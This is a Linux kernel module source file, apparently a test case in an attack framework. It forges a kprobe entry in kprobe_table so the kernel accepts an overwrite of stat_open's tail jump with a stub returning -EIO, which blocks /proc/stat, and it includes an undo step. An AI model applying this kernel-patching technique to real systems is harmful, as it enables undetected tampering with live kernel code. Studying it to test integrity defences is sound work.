// SPDX-License-Identifier: GPL-2.0-only
/*
 * A kprobe that is only in the kernel's table: it says that what stands at a
 * tail jump is its own, and what stood there before is code of ours. So that
 * code comes back, as far as that table can tell: /proc/stat cannot be opened.
 */
#include <linux/kprobes.h>

#include "attack.h"

ATTACK_SYMBOL(kprobe_table);
ATTACK_SYMBOL(aggr_pre_handler);
ATTACK_SYMBOL(stat_open);
ATTACK_SYMBOL(single_open_size);

/* push $-EIO; pop %rax; ret; nop */
static const u8 code[JMP32_INSN_SIZE] = {0x6a, 0xfb, 0x58, 0xc3, 0x90};
static struct optimized_kprobe probe;
static u8 *place;
static u8 old[JMP32_INSN_SIZE];

static u8 *find_jump(void)
{
	u8 *p = (u8 *)stat_open_at;
	s32 away;

	for (int i = 0; i < 128; i++) {
		memcpy(&away, p + i + 1, sizeof(away));
		if (p[i] == 0xe9 &&
		    (unsigned long)p + i + JMP32_INSN_SIZE + away == single_open_size_at)
			return p + i;
	}
	return NULL;
}

/* Make the table say that @bytes are what comes back when the probe goes. */
static int write_place(const u8 *bytes)
{
	int r;

	probe.kp.opcode = bytes[0];
	memcpy(probe.optinsn.copied_insn, bytes + 1, sizeof(code) - 1);
	hlist_add_head_rcu(&probe.kp.hlist, (struct hlist_head *)kprobe_table_at);
	r = attack_poke(place, bytes);
	hlist_del_rcu(&probe.kp.hlist);
	return r;
}

static int run(void)
{
	place = find_jump();
	if (!place)
		return -ENOENT;
	probe.kp.addr = place;
	probe.kp.pre_handler = (void *)aggr_pre_handler_at;
	probe.optinsn.insn = place;
	memcpy(old, place, sizeof(old));
	return write_place(code);
}

static void undo(void)
{
	if (write_place(old))
		pr_err("attack " KBUILD_MODNAME ": cannot be undone\n");
	synchronize_rcu();
}

ATTACK(run, undo, NULL, "a forged kprobe");
